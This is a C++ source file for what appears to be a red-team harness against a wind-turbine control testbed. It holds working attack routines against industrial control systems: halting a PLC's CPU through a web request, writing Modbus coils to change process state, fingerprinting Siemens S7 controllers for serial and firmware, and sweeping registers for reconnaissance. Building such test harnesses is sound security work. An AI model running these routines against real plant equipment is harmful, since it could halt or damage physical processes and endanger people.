#include "windtrap/redteam.hpp"

#include <chrono>
#include <cstdio>
#include <sstream>
#include <thread>

#include <httplib.h>

namespace windtrap::red {

namespace {

std::string hex(const std::vector<uint8_t>& v) {
    std::string s;
    char b[4];
    for (uint8_t c : v) {
        std::snprintf(b, sizeof(b), "%02x", c);
        s += b;
    }
    return s;
}

}  // namespace

std::string AttackOutcome::to_line() const {
    std::ostringstream os;
    os << "attack=" << kind << " success=" << (success ? "true" : "false");
    for (const auto& [k, v] : observed) os << ' ' << k << '=' << v;
    if (!error.empty()) os << " error=\"" << error << '"';
    for (const auto& r : requests_sent) os << " req=" << hex(r);
    return os.str();
}

bool ModbusClient::connect(const std::string& host, uint16_t port, int timeout_ms) {
    auto s = net::tcp_connect(host, port, timeout_ms);
    if (!s) return false;
    sock_ = std::move(*s);
    return true;
}

std::optional<std::vector<uint8_t>> ModbusClient::transact(const std::vector<uint8_t>& pdu,
                                                           int timeout_ms) {
    if (!sock_.valid()) return std::nullopt;
    uint16_t tid = next_tid_++;
    auto frame = modbus::build_mbap(tid, 1, pdu);
    sent_.push_back(frame);
    if (!net::send_all(sock_, frame)) return std::nullopt;

    modbus::MbapAssembler assembler;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(timeout_ms);
    while (std::chrono::steady_clock::now() < deadline) {
        auto chunk = net::recv_some(sock_.fd(), 65536, 100);
        if (chunk.empty()) continue;
        auto frames = assembler.feed(chunk.data(), chunk.size());
        if (assembler.poisoned()) return std::nullopt;
        for (auto& f : frames) {
            if (f.transaction_id == tid) return f.pdu;
        }
    }
    return std::nullopt;
}

std::optional<std::vector<uint16_t>> ModbusClient::read_holding(uint16_t start, uint16_t qty) {
    std::vector<uint8_t> pdu{0x03, static_cast<uint8_t>(start >> 8),
                             static_cast<uint8_t>(start & 0xFF), static_cast<uint8_t>(qty >> 8),
                             static_cast<uint8_t>(qty & 0xFF)};
    auto resp = transact(pdu);
    if (!resp || resp->size() < 2 || (*resp)[0] != 0x03) return std::nullopt;
    uint8_t byte_count = (*resp)[1];
    if (resp->size() != 2u + byte_count || byte_count != 2 * qty) return std::nullopt;
    std::vector<uint16_t> regs(qty);
    for (uint16_t i = 0; i < qty; ++i)
        regs[i] = static_cast<uint16_t>((*resp)[2 + 2 * i] << 8 | (*resp)[3 + 2 * i]);
    return regs;
}

std::optional<std::vector<uint8_t>> ModbusClient::write_single_coil(uint16_t addr, bool on) {
    std::vector<uint8_t> pdu{0x05, static_cast<uint8_t>(addr >> 8),
                             static_cast<uint8_t>(addr & 0xFF),
                             static_cast<uint8_t>(on ? 0xFF : 0x00), 0x00};
    return transact(pdu);
}

std::optional<std::vector<uint8_t>> ModbusClient::write_coils(uint16_t start,
                                                              const std::vector<bool>& bits) {
    uint16_t qty = static_cast<uint16_t>(bits.size());
    uint8_t byte_count = static_cast<uint8_t>((qty + 7) / 8);
    std::vector<uint8_t> pdu{0x0F, static_cast<uint8_t>(start >> 8),
                             static_cast<uint8_t>(start & 0xFF), static_cast<uint8_t>(qty >> 8),
                             static_cast<uint8_t>(qty & 0xFF), byte_count};
    pdu.resize(6 + byte_count, 0);
    for (uint16_t i = 0; i < qty; ++i)
        if (bits[i]) pdu[6 + i / 8] |= static_cast<uint8_t>(1u << (i % 8));
    return transact(pdu);
}

AttackOutcome attack_stop_cpu(const std::string& host, uint16_t web_port, uint16_t modbus_port,
                              int settle_ms) {
    AttackOutcome out;
    out.kind = "stop_cpu";

    ModbusClient mb;
    if (!mb.connect(host, modbus_port)) {
        out.error = "modbus unreachable for verification";
        return out;
    }
    auto pre = mb.read_holding(0, 5);
    if (!pre) {
        out.error = "pre-attack register read failed";
        return out;
    }
    out.observed.emplace_back("pre_state", std::to_string((*pre)[0]));
    out.observed.emplace_back("pre_w_rotor_x100", std::to_string((*pre)[1]));
    out.observed.emplace_back("pre_power_kw", std::to_string((*pre)[3]));

    httplib::Client web("http://" + host + ":" + std::to_string(web_port));
    web.set_connection_timeout(0, 3000000);
    auto res = web.Post("/cpu", httplib::Params{{"mode", "STOP"}});
    if (!res || res->status != 200) {
        out.error = "web CPU stop request failed";
        return out;
    }
    out.observed.emplace_back("http_status", std::to_string(res->status));

    // watch power collapse and faults latch
    uint16_t power = 0xFFFF, faults = 0;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(settle_ms);
    while (std::chrono::steady_clock::now() < deadline) {
        auto regs = mb.read_holding(0, 5);
        if (regs) {
            power = (*regs)[3];
            faults = (*regs)[4];
            if (power == 0) break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    out.observed.emplace_back("post_power_kw", std::to_string(power));
    out.observed.emplace_back("fault_bits", std::to_string(faults));
    out.requests_sent = mb.sent();
    out.success = power == 0;
    return out;
}

AttackOutcome attack_write_coils(const std::string& host, uint16_t modbus_port, uint16_t start,
                                 const std::vector<bool>& bits, int settle_ms) {
    AttackOutcome out;
    out.kind = "write_coils";

    ModbusClient mb;
    if (!mb.connect(host, modbus_port)) {
        out.error = "modbus unreachable";
        return out;
    }
    auto pre = mb.read_holding(0, 5);
    if (pre) out.observed.emplace_back("pre_state", std::to_string((*pre)[0]));

    auto resp = mb.write_coils(start, bits);
    out.requests_sent = mb.sent();
    if (!resp) {
        out.error = "no response";
        return out;
    }
    if (!resp->empty() && ((*resp)[0] & 0x80)) {
        out.observed.emplace_back("exception", std::to_string((*resp)[1]));
        out.error = "exception response";
        return out;
    }
    bool echo_ok = resp->size() == 5 && (*resp)[0] == 0x0F &&
                   static_cast<uint16_t>((*resp)[1] << 8 | (*resp)[2]) == start &&
                   static_cast<uint16_t>((*resp)[3] << 8 | (*resp)[4]) == bits.size();
    out.observed.emplace_back("echo_ok", echo_ok ? "true" : "false");

    // watch for a state change / fault as the process effect
    uint16_t state = pre ? (*pre)[0] : 0xFFFF, faults = 0;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(settle_ms);
    while (std::chrono::steady_clock::now() < deadline) {
        auto regs = mb.read_holding(0, 5);
        if (regs) {
            state = (*regs)[0];
            faults = (*regs)[4];
            if (!pre || state != (*pre)[0] || faults != 0) break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    out.observed.emplace_back("post_state", std::to_string(state));
    out.observed.emplace_back("fault_bits", std::to_string(faults));
    out.success = echo_ok;
    return out;
}

namespace {

std::vector<uint8_t> cotp_connect_request() {
    // CR, class 0, TPDU size 1024, generic tsaps
    return {0x11, 0xE0, 0x00, 0x00, 0x12, 0x34, 0x00, 0xC0, 0x01, 0x0A,
            0xC1, 0x02, 0x01, 0x00, 0xC2, 0x02, 0x01, 0x02};
}

std::vector<uint8_t> s7_setup_request() {
    return {0x02, 0xF0, 0x80,  // DT header
            0x32, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x00, 0x00,
            0xF0, 0x00, 0x00, 0x01, 0x00, 0x01, 0x01, 0xE0};
}

std::vector<uint8_t> szl_request(uint16_t pdu_ref, uint16_t szl_id, uint16_t index) {
    std::vector<uint8_t> out{0x02, 0xF0, 0x80};  // COTP DT
    out.push_back(0x32);
    out.push_back(0x07);
    out.push_back(0x00);
    out.push_back(0x00);
    out.push_back(static_cast<uint8_t>(pdu_ref >> 8));
    out.push_back(static_cast<uint8_t>(pdu_ref & 0xFF));
    out.push_back(0x00);
    out.push_back(0x08);
    out.push_back(0x00);
    out.push_back(0x08);
    // parameter: request, CPU functions, read SZL
    const uint8_t param[] = {0x00, 0x01, 0x12, 0x04, 0x11, 0x44, 0x01, 0x00};
    out.insert(out.end(), param, param + sizeof(param));
    // data: success, octet string, length 4, id, index
    out.push_back(0xFF);
    out.push_back(0x09);
    out.push_back(0x00);
    out.push_back(0x04);
    out.push_back(static_cast<uint8_t>(szl_id >> 8));
    out.push_back(static_cast<uint8_t>(szl_id & 0xFF));
    out.push_back(static_cast<uint8_t>(index >> 8));
    out.push_back(static_cast<uint8_t>(index & 0xFF));
    return out;
}

std::string trimmed(const std::vector<uint8_t>& bytes, size_t off, size_t len) {
    std::string s;
    for (size_t i = off; i < off + len && i < bytes.size(); ++i)
        s.push_back(static_cast<char>(bytes[i]));
    while (!s.empty() && (s.back() == ' ' || s.back() == '\0')) s.pop_back();
    return s;
}

struct SzlRecords {
    uint16_t record_len = 0;
    uint16_t count = 0;
    std::vector<uint8_t> bytes;
};

std::optional<SzlRecords> parse_szl_response(const std::vector<uint8_t>& payload) {
    // payload: COTP DT (3) + S7 userdata header (10) + params (n) + data
    if (payload.size() < 3 + 10) return std::nullopt;
    size_t s7 = 3;
    if (payload[s7] != 0x32 || payload[s7 + 1] != 0x07) return std::nullopt;
    uint16_t param_len = static_cast<uint16_t>(payload[s7 + 6] << 8 | payload[s7 + 7]);
    size_t data = s7 + 10 + param_len;
    if (payload.size() < data + 12) return std::nullopt;
    if (payload[data] != 0xFF) return std::nullopt;
    SzlRecords out;
    out.record_len = static_cast<uint16_t>(payload[data + 8] << 8 | payload[data + 9]);
    out.count = static_cast<uint16_t>(payload[data + 10] << 8 | payload[data + 11]);
    out.bytes.assign(payload.begin() + data + 12, payload.end());
    return out;
}

}  // namespace

FingerprintResult fingerprint_s7(const std::string& host, uint16_t s7_port) {
    FingerprintResult out;
    auto sock = net::tcp_connect(host, s7_port);
    if (!sock) {
        out.error = "connect failed";
        return out;
    }

    s7::TpktAssembler assembler;
    auto transact = [&](const std::vector<uint8_t>& payload) -> std::optional<std::vector<uint8_t>> {
        auto wire = s7::wrap_tpkt(payload);
        out.requests_sent.push_back(wire);
        if (!net::send_all(*sock, wire)) return std::nullopt;
        auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(3);
        while (std::chrono::steady_clock::now() < deadline) {
            auto chunk = net::recv_some(sock->fd(), 65536, 100);
            if (chunk.empty()) continue;
            auto payloads = assembler.feed(chunk.data(), chunk.size());
            if (assembler.poisoned()) return std::nullopt;
            if (!payloads.empty()) return payloads.front();
        }
        return std::nullopt;
    };

    auto cc = transact(cotp_connect_request());
    if (!cc || cc->size() < 2 || ((*cc)[1] & 0xF0) != 0xD0) {
        out.error = "COTP connect failed";
        return out;
    }
    auto setup = transact(s7_setup_request());
    if (!setup) {
        out.error = "communication setup failed";
        return out;
    }

    auto comp = transact(szl_request(2, 0x001C, 0x0000));
    if (!comp) {
        out.error = "SZL 0x001C read failed";
        return out;
    }
    auto comp_rec = parse_szl_response(*comp);
    if (!comp_rec || comp_rec->record_len == 0) {
        out.error = "SZL 0x001C response malformed";
        return out;
    }
    for (uint16_t i = 0; i < comp_rec->count; ++i) {
        size_t off = static_cast<size_t>(i) * comp_rec->record_len;
        if (off + comp_rec->record_len > comp_rec->bytes.size()) break;
        uint16_t index =
            static_cast<uint16_t>(comp_rec->bytes[off] << 8 | comp_rec->bytes[off + 1]);
        std::string text = trimmed(comp_rec->bytes, off + 2, comp_rec->record_len - 2);
        if (index == 0x0001) out.identity.plant_id = text;
        if (index == 0x0002) out.identity.module_type = text;
        if (index == 0x0005) out.identity.serial = text;
    }

    auto mod = transact(szl_request(3, 0x0011, 0x0000));
    if (!mod) {
        out.error = "SZL 0x0011 read failed";
        return out;
    }
    auto mod_rec = parse_szl_response(*mod);
    if (mod_rec && mod_rec->record_len >= 22) {
        for (uint16_t i = 0; i < mod_rec->count; ++i) {
            size_t off = static_cast<size_t>(i) * mod_rec->record_len;
            if (off + mod_rec->record_len > mod_rec->bytes.size()) break;
            uint16_t index =
                static_cast<uint16_t>(mod_rec->bytes[off] << 8 | mod_rec->bytes[off + 1]);
            std::string text = trimmed(mod_rec->bytes, off + 2, 20);
            if (index == 0x0001) out.identity.order_number = text;
            if (index == 0x0007) out.identity.firmware = text;
        }
    }

    out.success = !out.identity.module_type.empty() && !out.identity.serial.empty() &&
                  !out.identity.plant_id.empty();
    return out;
}

AttackOutcome attack_read_recon(const std::string& host, uint16_t modbus_port,
                                uint16_t sweep_end) {
    AttackOutcome out;
    out.kind = "read_recon";

    ModbusClient mb;
    if (!mb.connect(host, modbus_port)) {
        out.error = "modbus unreachable";
        return out;
    }
    std::vector<uint16_t> valid;
    std::vector<uint16_t> values;
    for (uint16_t addr = 0; addr < sweep_end; ++addr) {
        std::vector<uint8_t> pdu{0x03, static_cast<uint8_t>(addr >> 8),
                                 static_cast<uint8_t>(addr & 0xFF), 0x00, 0x01};
        auto resp = mb.transact(pdu);
        if (!resp || resp->empty()) {
            out.error = "sweep aborted at " + std::to_string(addr);
            break;
        }
        if ((*resp)[0] == 0x03 && resp->size() == 4) {
            valid.push_back(addr);
            values.push_back(static_cast<uint16_t>((*resp)[2] << 8 | (*resp)[3]));
        }
    }
    out.requests_sent = mb.sent();
    std::string map;
    for (size_t i = 0; i < valid.size(); ++i)
        map += (i ? "," : "") + std::to_string(valid[i]);
    out.observed.emplace_back("valid_registers", map);
    if (!values.empty()) out.observed.emplace_back("hr0", std::to_string(values[0]));
    out.success = !valid.empty() && out.error.empty();
    return out;
}

}  // namespace windtrap::red
